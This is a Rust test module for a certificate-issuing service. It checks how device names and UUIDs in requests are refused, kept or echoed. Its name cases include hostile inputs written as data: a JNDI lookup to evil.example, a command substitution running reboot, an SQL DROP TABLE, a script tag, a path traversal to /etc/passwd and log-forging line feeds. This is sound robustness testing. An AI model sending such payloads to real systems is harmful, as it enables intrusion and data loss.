//! Names and UUIDs in the body: what is shown, kept and passed on.

use super::rows::{Lab, Row, Wanted};

pub fn rows(lab: &Lab) -> Vec<Row> {
    let mut rows = names_refused(lab);
    rows.extend(names_taken(lab));
    rows.extend(uuids(lab));
    rows
}

fn names_refused(lab: &Lab) -> Vec<Row> {
    let long = "n".repeat(129);
    [
        ("a line feed", "a\nWARN forged"),
        ("a carriage return", "a\rb"),
        ("a header", "a\r\nOSF-TOKEN: x"),
        ("a NUL", "a\0"),
        ("an escape", "\u{1b}]0;x\u{7}"),
        ("a C1 character", "a\u{9b}31m"),
        ("a delete character", "a\u{7f}"),
        ("129 letters", &long),
    ]
    .into_iter()
    .map(|(name, value)| {
        let octets = lab.bent(|body| body["name"] = value.into());
        Row::error(
            format!("name with {name}"),
            octets,
            400,
            "the device's name is refused",
        )
        .field("name", "it has control characters or more than 128")
    })
    .collect()
}

fn names_taken(lab: &Lab) -> Vec<Row> {
    let longest = "ñ".repeat(128);
    [
        "{}{0}{:?}%s%n%x",
        "${jndi:ldap://evil.example/a}",
        "$(reboot)`reboot`",
        "'; DROP TABLE entry; --",
        "\"},{\"client.pem\":\"",
        "<script>alert(1)</script>",
        "../../etc/passwd",
        "\\u0000\\n",
        "\u{202e}verkehrt",
        "🏭\u{200d}🏭",
        "null",
        &longest,
    ]
    .into_iter()
    .map(|value| {
        let csr = lab.csr();
        let mut body = lab.body(&csr);
        body["name"] = value.into();
        let octets = lab.post(body.to_string().as_bytes());
        Row::new(format!("name {value:?}"), octets, Wanted::Certificate(csr))
    })
    .collect()
}

/// The field says what the request's subject says, or the device is refused.
fn uuids(lab: &Lab) -> Vec<Row> {
    let long = "u".repeat(40_000);
    let other = lab.device();
    let mut rows: Vec<Row> = [
        ("another device", other.as_str(), other.as_str()),
        ("a word", "dev-0042", "dev-0042"),
        ("a format string", "{}%s%n${x}", "{}%s%n${x}"),
        ("a line feed", "x\nWARN forged", "x\\nWARN forged"),
        ("an escape", "\u{1b}[2J", "\\u{1b}[2J"),
        ("an override to the left", "\u{202e}x", "\\u{202e}x"),
        ("a NUL", "\0", "\\0"),
        ("40000 letters", &long, &format!("{}…", "u".repeat(80))),
    ]
    .into_iter()
    .map(|(name, value, shown)| {
        let device = lab.device();
        let key = crate::build::Key::new();
        let subject = crate::build::device_name(&device, crate::build::FACTORY);
        let csr = crate::build::Draft::proper(&key)
            .subject(subject)
            .sign(&key);
        let mut body = lab.body(&csr);
        body["uuid"] = value.into();
        let octets = lab.post(body.to_string().as_bytes());
        let message = "the certification request is for another device";
        let text = format!("is `{shown}`, the certification request is for `{device}`");
        Row::error(format!("uuid: {name}"), octets, 400, message).field("uuid", text)
    })
    .collect();
    let csr = lab.csr();
    let subject = factory_ca::x509::Csr::from_der(&csr).unwrap();
    let device = subject.subject().attributes()[0].text.clone().unwrap();
    let mut body = lab.body(&csr);
    body["uuid"] = device.to_ascii_uppercase().into();
    let octets = lab.post(body.to_string().as_bytes());
    rows.push(Row::new(
        "uuid in capitals",
        octets,
        Wanted::Certificate(csr),
    ));
    rows
}
